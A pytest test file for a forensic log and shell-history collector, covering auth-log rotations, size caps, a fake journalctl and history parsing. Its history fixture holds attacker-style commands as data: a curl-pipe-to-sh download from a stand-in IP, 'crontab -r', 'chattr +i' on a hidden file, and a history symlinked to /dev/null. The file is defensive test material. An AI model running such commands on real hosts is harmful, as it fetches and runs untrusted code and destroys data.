"""The logs collector: auth logs with their rotations, the sshd journal and shell histories,
on temp ``--root`` trees (and a fake ``journalctl`` that this test starts and that is killed
by its pid when it overstays)."""

from __future__ import annotations

import gzip
import hashlib
import json
import os
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from deminer.collect import logs
from deminer.collect.bundle import Context
from tests.collect.conftest import BundleReader

REAL_AUTH_LOG = Path(__file__).resolve().parents[2] / ".." / "shared" / "data" / "linux-auth" / \
    "ubuntu-internet-facing-auth.log"


class Bundle(BundleReader):
    def rows(self, table: str) -> list[dict[str, Any]]:
        return [{k: v for k, v in r.items() if k != "host"} for r in self.tables.get(table, [])]

    def raw(self) -> dict[str, bytes]:
        return {k[4:]: v for k, v in self.members.items() if k.startswith("raw/")}


def finish(ctx: Context, tmp_path: Path) -> Bundle:
    out = tmp_path / "bundle.tar.gz"
    ctx.write_bundle(str(out))
    return Bundle(out)


def put(root: Path, host_path: str, data: str | bytes) -> Path:
    real = root / host_path.lstrip("/")
    real.parent.mkdir(parents=True, exist_ok=True)
    real.write_bytes(data.encode() if isinstance(data, str) else data)
    return real


def auth_lines(start: int, count: int) -> bytes:
    return b"".join(b"Nov 14 22:%02d:%02d web01 sshd[%d]: Failed password for root from "
                    b"203.0.113.%d port 4%04d ssh2\n" % (i // 60 % 60, i % 60, 1000 + i, i % 250, i)
                    for i in range(start, start + count))


# -- log files ------------------------------------------------------------------------------
def test_auth_logs_rotations_caps_and_links(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(logs, "SYSLOG_CAP", 1000)
    root = tmp_path / "host"
    current = put(root, "/var/log/auth.log", auth_lines(0, 10))
    put(root, "/var/log/auth.log.1", auth_lines(10, 100))  # over the 4 KiB cap below
    rotated = gzip.compress(auth_lines(200, 30))
    put(root, "/var/log/auth.log.2.gz", rotated)
    put(root, "/var/log/syslog", b"x" * 900 + b"\n" + b"y" * 500 + b"\n")
    put(root, "/var/log/messages", b"kernel: not wanted when auth.log exists\n")
    put(root, "/var/log/auth.logger", b"not a rotation\n")
    (root / "var/log/auth.log.3").symlink_to("/dev/zero")
    os.mkfifo(root / "var/log/auth.log.4")
    ctx = Context(root=str(root), host="web01", max_file_bytes=4096)
    logs.collect(ctx)
    b = finish(ctx, tmp_path)
    raw = b.raw()
    assert sorted(raw) == ["var/log/auth.log", "var/log/auth.log.1", "var/log/auth.log.2.gz",
                           "var/log/syslog"]
    assert raw["var/log/auth.log"] == current.read_bytes()
    assert gzip.decompress(raw["var/log/auth.log.2.gz"]) == auth_lines(200, 30)
    full = auth_lines(10, 100)
    assert raw["var/log/auth.log.1"] == full[-4096:]  # the newest bytes are kept
    assert raw["var/log/syslog"] == (b"x" * 900 + b"\n" + b"y" * 500 + b"\n")[-1000:]
    log = str(root / "var/log")
    assert sorted(b.errors()) == [
        (log + "/auth.log.1", f"truncated to the last 4096 bytes (of {len(full)})"),
        (log + "/auth.log.3", "not copied: a symlink to /dev/zero"),
        (log + "/syslog", "truncated to the last 1000 bytes (of 1402)"),
    ]
    assert "journal/sshd.json" not in raw  # not a live host: journalctl is never run


def test_messages_when_no_auth_log_and_big_archives(tmp_path: Path) -> None:
    root = tmp_path / "host"
    put(root, "/var/log/secure", b"sshd[1]: Accepted publickey for root\n")
    put(root, "/var/log/secure-20240101", b"old\n")
    put(root, "/var/log/messages", b"messages\n")
    put(root, "/var/log/messages-20240101.gz", os.urandom(5000))  # over the cap: a cut archive is useless
    ctx = Context(root=str(root), host="web01", max_file_bytes=4096)
    logs.collect(ctx)
    b = finish(ctx, tmp_path)
    assert sorted(b.raw()) == ["var/log/messages", "var/log/secure", "var/log/secure-20240101"]
    assert b.errors() == [(str(root / "var/log/messages-20240101.gz"),
                           "not copied: compressed log of 5000 bytes is over the cap of 4096 "
                           "(a cut archive cannot be read)")]


def test_web_access_and_audit_logs_are_copied_not_error_logs(tmp_path: Path) -> None:
    root = tmp_path / "host"
    put(root, "/var/log/auth.log", auth_lines(0, 3))
    put(root, "/var/log/nginx/access.log",
        b'203.0.113.5 - - [30/Mar/2024:15:54:19 +0000] "POST /up.php HTTP/1.1" 200 5\n')
    put(root, "/var/log/nginx/access.log.2.gz", gzip.compress(b"old\n"))
    put(root, "/var/log/nginx/error.log", b"not wanted\n")
    put(root, "/var/log/apache2/other_vhosts_access.log", b"vhost\n")
    put(root, "/var/log/httpd/access_log-20240301", b"rotated\n")
    put(root, "/var/log/audit/audit.log", b"type=EOE msg=audit(1711814059.123:77): \n")
    put(root, "/var/log/audit/audit.log.1", b"type=EOE msg=audit(1711810000.001:12): \n")
    put(root, "/var/log/audit/auditd.conf", b"not a log\n")
    outside = put(tmp_path, "/elsewhere/access.log", b"secret\n")
    (root / "var/log/lighttpd").mkdir(parents=True)
    (root / "var/log/lighttpd/access.log").symlink_to(outside)
    ctx = Context(root=str(root), host="web01")
    logs.collect(ctx)
    b = finish(ctx, tmp_path)
    assert sorted(b.raw()) == [
        "var/log/apache2/other_vhosts_access.log", "var/log/audit/audit.log",
        "var/log/audit/audit.log.1", "var/log/auth.log", "var/log/httpd/access_log-20240301",
        "var/log/nginx/access.log", "var/log/nginx/access.log.2.gz"]
    assert b.raw()["var/log/nginx/access.log"].startswith(b"203.0.113.5 - - [30/Mar/2024")
    assert [e for e in b.errors() if "lighttpd" in e[0]] == [
        (str(root / "var/log/lighttpd/access.log"), f"not copied: a symlink to {outside}")]


def test_total_cap_drops_the_oldest_rotations(tmp_path: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(logs, "LOGS_TOTAL_CAP", 1500)
    root = tmp_path / "host"
    for name, age in (("auth.log", 0), ("auth.log.1", 1), ("auth.log.2", 2), ("auth.log.10", 10)):
        real = put(root, "/var/log/" + name, b"x" * 1000)
        os.utime(real, (1_700_000_000 - age * 86400,) * 2)
    ctx = Context(root=str(root), host="web01")
    logs.collect(ctx)
    b = finish(ctx, tmp_path)
    assert sorted(b.raw()) == ["var/log/auth.log", "var/log/auth.log.1"]
    assert sorted(b.errors()) == [
        (str(root / "var/log/auth.log.10"), "not copied: the logs already took 2000 bytes"),
        (str(root / "var/log/auth.log.2"), "not copied: the logs already took 2000 bytes")]


def test_real_auth_log_is_copied_unchanged(tmp_path: Path) -> None:
    if not REAL_AUTH_LOG.is_file():
        pytest.skip("real evidence folder ../shared/data is absent")
    root = tmp_path / "host"
    data = REAL_AUTH_LOG.read_bytes()
    put(root, "/var/log/auth.log", data)
    ctx = Context(root=str(root), host="web01")
    logs.collect(ctx)
    raw = finish(ctx, tmp_path).raw()["var/log/auth.log"]
    assert hashlib.sha256(raw).hexdigest() == hashlib.sha256(data).hexdigest()
    assert raw.count(b"Failed password") == 713


# -- journald -------------------------------------------------------------------------------
FAKE_JOURNALCTL = """#!{python}
import json, os, sys, time
with open(os.environ["FAKE_JOURNAL_ARGV"], "w") as fh:
    json.dump(sys.argv[1:], fh)
mode = os.environ["FAKE_JOURNAL_MODE"]
for i in range(int(os.environ["FAKE_JOURNAL_LINES"])):
    sys.stdout.write(json.dumps({{"MESSAGE": "Accepted publickey for root", "_COMM": "sshd",
                                  "__REALTIME_TIMESTAMP": str(1700000000000000 + i)}}) + "\\n")
sys.stdout.flush()
if mode == "hang":
    time.sleep(60)
if mode == "fail":
    sys.stderr.write("Failed to open journal\\n")
    sys.exit(1)
"""


@pytest.fixture
def journalctl(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    script = tmp_path / "journalctl"
    script.write_text(FAKE_JOURNALCTL.format(python=sys.executable))
    script.chmod(0o755)
    monkeypatch.setenv("FAKE_JOURNAL_ARGV", str(tmp_path / "argv.json"))
    monkeypatch.setenv("FAKE_JOURNAL_MODE", "ok")
    monkeypatch.setenv("FAKE_JOURNAL_LINES", "3")
    return script


def journal_lines(b: Bundle) -> list[str]:
    data = b.raw()["journal/sshd.json"].decode()
    return [json.loads(line)["__REALTIME_TIMESTAMP"] for line in data.splitlines()]


def test_journal_argv_and_output(tmp_path: Path, journalctl: Path) -> None:
    ctx = Context(root=str(tmp_path / "host"), host="web01")
    assert logs.copy_journal(ctx, str(journalctl)) == "raw/journal/sshd.json"
    b = finish(ctx, tmp_path)
    assert json.loads((tmp_path / "argv.json").read_text()) == [
        "-o", "json", "--no-pager", "_COMM=sshd", "-S", "-30d"]
    assert journal_lines(b) == ["1700000000000000", "1700000000000001", "1700000000000002"]
    assert b.errors() == []


def test_journal_keeps_newest_whole_lines(tmp_path: Path, journalctl: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FAKE_JOURNAL_LINES", "5000")
    ctx = Context(root=str(tmp_path / "host"), host="web01")
    logs.copy_journal(ctx, str(journalctl), limit=10000)
    b = finish(ctx, tmp_path)
    kept = journal_lines(b)
    assert kept[-1] == str(1700000000000000 + 4999)
    assert len(kept) < 200 and int(kept[1]) - int(kept[0]) == 1
    size = len(b.raw()["journal/sshd.json"])
    assert size <= 10000
    [(source, message)] = b.errors()
    assert source == str(journalctl) and message.startswith(f"truncated to the newest {size} bytes")


def test_journal_timeout_kills_the_child(tmp_path: Path, journalctl: Path,
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FAKE_JOURNAL_MODE", "hang")
    ctx = Context(root=str(tmp_path / "host"), host="web01")
    logs.copy_journal(ctx, str(journalctl), timeout=0.5)
    b = finish(ctx, tmp_path)
    assert len(journal_lines(b)) == 3
    assert b.errors() == [(str(journalctl), "stopped after 0.5 s (timeout); kept what it wrote")]


def test_journal_failure_is_an_error_row(tmp_path: Path, journalctl: Path,
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FAKE_JOURNAL_MODE", "fail")
    monkeypatch.setenv("FAKE_JOURNAL_LINES", "0")
    ctx = Context(root=str(tmp_path / "host"), host="web01")
    logs.copy_journal(ctx, str(journalctl))
    assert finish(ctx, tmp_path).errors() == [
        (str(journalctl), "exit status 1: Failed to open journal")]


# -- histories ------------------------------------------------------------------------------
PASSWD = "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/usr/bin/zsh\n"


def test_histories_become_events_and_raw_copies(tmp_path: Path) -> None:
    root = tmp_path / "host"
    put(root, "/etc/passwd", PASSWD)
    bash = b"#1700000000\ncurl -s http://198.51.100.7/x.sh | sh\nls\n#junk\n\nwget\xff \x1b[2J\n"
    put(root, "/root/.bash_history", bash)
    zsh = (b": 1700000100:0;echo \xd1\x83\xb1\n"
           b": 1700000200:3;for i in 1 2; do\\\necho $i\\\ndone\n"
           b": 1700000300:0;crontab -r\n")
    put(root, "/home/alice/.zsh_history", zsh)
    put(root, "/home/alice/.mysql_history", "_HiStOrY_V2_\nselect\\040*\\040from\\040users;\n")
    put(root, "/home/alice/.local/share/fish/fish_history",
        "- cmd: chattr +i /tmp/.x\n  when: 1700000400\n- cmd: echo a\\nb \\\\n\n  when: 1700000500\n")
    put(root, "/root/.ash_history", "id\n")
    (root / "home/alice/.bash_history").symlink_to("/dev/null")  # anti-forensics, noted
    ctx = Context(root=str(root), host="web01")
    logs.histories(ctx)
    b = finish(ctx, tmp_path)

    def event(source: str, line: int, ts: str | None, program: str, user: str, command: str,
              raw: str | None = None) -> dict[str, Any]:
        return {"ts": ts, "source": source, "source_line": line, "event": "shell_command",
                "program": program, "user": user, "command": command,
                "raw": command if raw is None else raw}

    rb, az, am, af = ("/root/.bash_history", "/home/alice/.zsh_history",
                      "/home/alice/.mysql_history", "/home/alice/.local/share/fish/fish_history")
    assert b.rows("events") == [
        event(rb, 2, "2023-11-14T22:13:20Z", "bash", "root", "curl -s http://198.51.100.7/x.sh | sh"),
        event(rb, 3, None, "bash", "root", "ls"),
        event(rb, 4, None, "bash", "root", "#junk"),
        event(rb, 6, None, "bash", "root", "wget\\xff \x1b[2J"),
        event("/root/.ash_history", 1, None, "ash", "root", "id"),
        event(az, 1, "2023-11-14T22:15:00Z", "zsh", "alice", "echo ё",
              ": 1700000100:0;echo ё"),
        event(az, 2, "2023-11-14T22:16:40Z", "zsh", "alice", "for i in 1 2; do\necho $i\ndone",
              ": 1700000200:3;for i in 1 2; do\necho $i\ndone"),
        event(az, 5, "2023-11-14T22:18:20Z", "zsh", "alice", "crontab -r",
              ": 1700000300:0;crontab -r"),
        event(af, 1, "2023-11-14T22:20:00Z", "fish", "alice", "chattr +i /tmp/.x",
              "- cmd: chattr +i /tmp/.x"),
        event(af, 3, "2023-11-14T22:21:40Z", "fish", "alice", "echo a\nb \\n",
              "- cmd: echo a\\nb \\\\n"),
        event(am, 2, None, "mysql", "alice", "select * from users;",
              "select\\040*\\040from\\040users;"),
    ]
    raw = b.raw()
    assert raw["root/.bash_history"] == bash and raw["home/alice/.zsh_history"] == zsh
    assert "home/alice/.bash_history" not in raw
    assert b.errors() == [(str(root / "home/alice/.bash_history"),
                           "not copied: a symlink to /dev/null")]


def test_history_over_the_cap_keeps_true_line_numbers(tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(logs, "HISTORY_CAP", 1000)
    root = tmp_path / "host"
    put(root, "/etc/passwd", PASSWD)
    put(root, "/root/.bash_history", "".join(f"echo {i:05d}\n" for i in range(1, 501)))
    ctx = Context(root=str(root), host="web01")
    logs.histories(ctx)
    rows = finish(ctx, tmp_path).rows("events")
    assert rows[-1]["source_line"] == 500 and rows[-1]["command"] == "echo 00500"
    assert all(r["command"] == f"echo {r['source_line']:05d}" for r in rows)
    assert 80 < len(rows) < 100


@settings(max_examples=300, deadline=None)
@given(data=st.binary(max_size=400), shell=st.sampled_from(["bash", "zsh", "fish", "mysql", "sh"]))
def test_parse_history_never_fails(data: bytes, shell: str) -> None:
    lines = data.count(b"\n") + 1
    for line, ts, command, raw in logs.parse_history(data, shell):
        assert 1 <= line <= lines
        assert ts is None or (ts.endswith("Z") and ts[:2] in ("19", "20", "21", "22"))
        assert command.strip() and len(raw) <= logs.RAW_CAP
